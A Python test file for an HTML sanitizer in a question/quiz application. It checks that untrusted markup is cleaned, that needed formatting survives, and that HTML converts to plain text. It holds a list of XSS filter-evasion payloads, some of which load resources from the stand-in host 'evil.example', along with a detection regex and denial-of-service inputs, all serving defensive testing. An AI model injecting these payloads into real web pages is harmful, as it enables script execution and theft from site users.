"""HTML of strangers: nothing of it may run or call home, and what a question needs stays."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from questions.html import clean, from_text, has_markup, images_in, says_more_than_text, to_text

IMAGE = f"media/{'a' * 64}.png"
# After the OWASP filter evasion cheat sheet, the mutation attacks on DOMPurify, and what quiz exports held.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    '<img src="media/x.png" onload="alert(1)" srcset="//evil.example/x 2x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/settings/delete'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0' class='button' id='main'>x</p>",
    "<p onclick=alert(1) data-action=delete>x</p>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<xss onmouseover=alert(1) style=behavior:url(x.htc)>x</xss>",
    "<img src='https://evil.example/pixel.gif' alt='a drawing'>",
    "<img src='media/../../etc/passwd'>",
    "<img alt='\"><script>alert(1)</script>' src='https://evil.example/x'>",
    "<img alt='&lt;img src=x onerror=alert(1)&gt;' src=x>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<p><b><i>" * 50 + "<script>alert(1)</script>",
]
ALIVE = re.compile(
    r"<\s*/?(?:script|style|svg|math|iframe|object|embed|form|input|button|details|video|audio|source|body|meta|link"
    r"|base|template|textarea|title|noscript|xss|animate)\b"
    r"|<[^>]*\s(?:on\w+|style|class|id|srcset|background|formaction|data-\w+|xlink:href)\s*="
    r"|<[^>]*(?:src|href)=\"(?!media/[0-9a-f]{64}\.(?:png|jpg|gif|webp)\"|https?://|mailto:)"
    r"|<img[^>]*src=\"(?!media/)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_stays_alive(attack: str) -> None:
    cleaned = clean(f"<b>Before</b> {attack}")

    assert not ALIVE.search(cleaned)
    assert "Before" in cleaned
    assert clean(cleaned) == cleaned


@given(
    st.lists(st.sampled_from([*"<>\"'/=&;! \n", "script", "img src=", "svg", "onerror=", "--", "p", "style"]))
)
def test_pieces_of_tags_in_any_order_stay_dead(pieces: list[str]) -> None:
    cleaned = clean("".join(pieces))

    assert not ALIVE.search(cleaned)
    assert clean(cleaned) == cleaned


def test_what_a_question_needs_stays() -> None:
    fragment = (
        "<p>CO<sub>2</sub> and 10<sup>3</sup>, <b>bold</b></p><ul><li>one</li></ul>"
        f'<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table><img src="{IMAGE}" alt="x">'
    )

    assert clean(fragment) == fragment
    assert images_in(fragment) == {IMAGE.removeprefix("media/")}


def test_a_link_to_the_web_says_nothing_of_where_it_was_followed() -> None:
    assert 'rel="noopener noreferrer nofollow"' in clean('<a href="https://example.org">x</a>')


def test_an_image_that_is_not_to_be_had_leaves_its_description() -> None:
    assert clean('See <img src="https://example.org/x.png" alt="an X-ray">') == "See an X-ray"


def test_a_large_heading_becomes_one_that_a_page_can_hold() -> None:
    assert clean("<h1>Heart</h1>") == "<h3>Heart</h3>"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("a<br>b", "a\nb"),
        ("<p>a</p><p>b</p>", "a\nb"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("10<sup>3</sup>", "10^3"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ('<img src="x" alt="chart">', "[chart]"),
        ("a<script>alert(1)</script>b", "ab"),
        ("<pre>a  b</pre>", "a b"),
        ("x &lt; 5 &amp; y", "x < 5 & y"),
    ],
)
def test_html_is_told_as_plain_text(html: str, text: str) -> None:
    assert to_text(html) == text


@given(st.text(st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\n<>&")))
def test_plain_text_as_html_says_the_same(text: str) -> None:
    lines = [" ".join(line.split()) for line in text.split("\n")]
    told = [" ".join(line.split()) for line in to_text(clean(from_text(text))).split("\n")]

    assert [line for line in told if line] == [line for line in lines if line]


@pytest.mark.parametrize(
    ("text", "is_html"),
    [
        ("a < b > c", False),
        ("p<0.05 and x>3", False),
        ("<b>x</b>", True),
        ("a<br/>b", True),
        ("<you>", False),
    ],
)
def test_only_tags_of_running_text_make_a_text_html(text: str, *, is_html: bool) -> None:
    assert has_markup(text) is is_html


@pytest.mark.parametrize(
    ("html", "more"), [("<p>a</p><p>b<br></p>", False), ("<b>a</b>", True), ('<p dir="rtl">a</p>', True)]
)
def test_lines_alone_are_no_formatting(html: str, *, more: bool) -> None:
    assert says_more_than_text(html) is more


@pytest.mark.parametrize("sign", ["<", "<a ", "<img ", "&", "<!--", "<b>", "<div><table>"])
def test_a_long_run_of_one_sign_is_cleaned_and_told(sign: str) -> None:
    cleaned = clean(sign * (300_000 // len(sign)))

    assert not ALIVE.search(cleaned)
    to_text(cleaned)


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ('See <a href="@@FILE@@/x.pdf">this <b>one</b></a>.', "See this <b>one</b>."),
        ('<a lang="fr" href="javascript:x">mot</a> <a href="mailto:a@b.c">mail</a>', "mot <a "),
        ('<a href="ftp://x"><img src="media/x" alt="</a>"></a>', "&lt;/a&gt;"),
        ("<a>a</a><a><a>b</a></a>", "ab"),
    ],
)
def test_a_link_that_leads_nowhere_is_the_text_that_it_is_of(html: str, shown: str) -> None:
    cleaned = clean(html)

    assert cleaned.startswith(shown)
    assert clean(cleaned) == cleaned
    assert cleaned.count("<a ") == cleaned.count("</a>") == cleaned.count("href=")


def test_formatting_that_is_never_closed_does_not_multiply() -> None:
    opened = "".join(f"<b\n lang='{number}>'><I/dir=ltr{number}>" for number in range(1000))
    bomb = f"<p>{opened}</p>{'<p>x</p>' * 1000}"

    assert len(clean(bomb)) < 5 * len(bomb)
    assert len(clean(bomb + "<b lang=")) < 5 * len(bomb)


def test_a_text_of_countless_tags_is_taken_for_plain_text() -> None:
    assert clean("<div>" * 20_000).startswith("<div>")
    assert clean("<div>" * 20_001) == "&lt;div&gt;" * 20_001
    assert to_text("<a " * 20_001) == ("<a " * 20_001).strip()


@pytest.mark.parametrize("piece", ["<a ", "<!--", '<a x="', "<?", "</", "<![CDATA["])
def test_the_words_of_tags_that_are_never_closed_are_told_at_once(piece: str) -> None:
    assert "before" in to_text(f"before{piece * 20_000}")
    assert "before" in clean(f"before{piece * 20_000}>")


def test_a_script_is_not_told() -> None:
    assert to_text("<h1>Gout</h1><p>Urate<script>x</script>") == "Gout\nUrate"
